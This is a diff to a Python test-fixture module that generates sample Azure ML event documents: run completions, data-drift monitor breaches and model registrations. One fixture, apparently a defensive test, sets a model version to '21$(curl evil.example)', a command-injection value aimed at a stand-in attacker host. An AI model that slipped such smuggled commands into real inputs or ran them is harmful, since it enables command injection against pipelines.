@@ -9,7 +9,7 @@ from collections.abc import Mapping
 from typing import Any, Final
 
 from handlers import EVENT_TYPES
-from shared.events.runs import MONITOR_BREACH_TAG
+from shared.events.runs import MONITOR_BREACH_TAG, sample_run_id
 from tools.events.documents import Document, Schema, in_schema
 
 WORKSPACE: Final = (
@@ -22,13 +22,20 @@ SAMPLE_NAMES: Final = tuple(EVENT_TYPES)
 _TIME: Final = "2026-11-20T10:00:00.0000000Z"
 
 
-def _breach(signal: str) -> dict[str, Any]:
-    """Return the data of a monitor's step whose signal has breached its threshold."""
+_MONITOR_RUN: Final = "sample_monitor_run"
+
+
+def _breach(signal: str, tags: Mapping[str, str], properties: Mapping[str, str]) -> dict[str, Any]:
+    """Return the data of a monitor's step whose signal has breached its threshold.
+
+    :param tags: the step's other tags. Azure ML names the monitor's run in the tags or in the properties.
+    """
+    message = f"Signal {signal} has failed: features violate metric thresholds"
     return {
         "experimentName": "sample-monitor",
         "runType": "azureml.StepRun",
-        "runTags": {MONITOR_BREACH_TAG: f"Signal {signal} has failed: features violate metric thresholds"},
-        "runProperties": {"azureml.pipelinerunid": "sample_monitor_run"},
+        "runTags": {MONITOR_BREACH_TAG: message, **tags},
+        "runProperties": {"stepType": "SparkStep", **properties},
         "runStatus": "Completed",
     }
 
@@ -38,9 +45,10 @@ _VARIANTS: Final[Mapping[str, tuple[str, dict[str, Any]]]] = {
     "run-completed": (
         "RunCompleted",
         {
-            "runTags": {"dataset": "transactions:31"},
+            "runTags": {"dataset": "transactions:31", "builD_BUILDID": "4711"},  # the tag BUILD_BUILDID
             "runProperties": {
                 "_azureml.ComputeTargetType": "amlctrain",
+                "contentSnapshotId": "55555555-5555-5555-5555-555555555555",
                 "azureml.git.branch": "main",
                 "azureml.git.commit": "2f8c1be0d94a67352ec7f1a08b5d3e96c47a0b1d",
                 "azureml.git.repository_uri": "https://dev.azure.com/contoso/mlops/_git/training",
@@ -55,8 +63,22 @@ _VARIANTS: Final[Mapping[str, tuple[str, dict[str, Any]]]] = {
             "runProperties": {"runTemplate": "automl_child", "iteration": "12"},
         },
     ),
-    "run-status-changed-monitor-breach": ("RunStatusChanged", _breach("data-drift")),
-    "run-status-changed-monitor-breach.cloud": ("RunStatusChanged", _breach("prediction-drift")),
+    "run-completed-sweep-trial": (
+        "RunCompleted",
+        {"runId": "brave_kiwi_7m3x9q2rtz_3", "runTags": {"hyperparameters": '{"learning_rate": 0.01}'}},
+    ),
+    "run-status-changed-monitor-breach": (
+        "RunStatusChanged",
+        _breach("data-drift", {"azureml.pipelinerunid": _MONITOR_RUN}, {}),
+    ),
+    "run-status-changed-monitor-breach.cloud": (
+        "RunStatusChanged",
+        _breach(
+            "prediction-drift",
+            {},
+            {"azureml.pipelinerunid": "sample_signal_run", "azureml.rootpipelinerunid": _MONITOR_RUN},
+        ),
+    ),
     "run-status-changed-running": ("RunStatusChanged", {"runStatus": "Running"}),
     "model-registered-experiment": ("ModelRegistered", {"ModelTags": {"stage": "experiment"}}),
     "model-registered-unsafe-version": ("ModelRegistered", {"ModelVersion": "21$(curl evil.example)"}),
@@ -101,6 +123,8 @@ def sample_files() -> dict[str, Document]:
 def _file(file: str, number: int, name: str, changes: Mapping[str, Any]) -> Document:
     event = sample_event(name, number)
     event["data"] |= changes
+    if "runId" in changes:
+        event["subject"] = event["subject"].replace(sample_run_id(number), changes["runId"])
     event["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, file))
     return in_schema(event, Schema.CLOUD if file.endswith(".cloud") else Schema.EVENT_GRID)
 
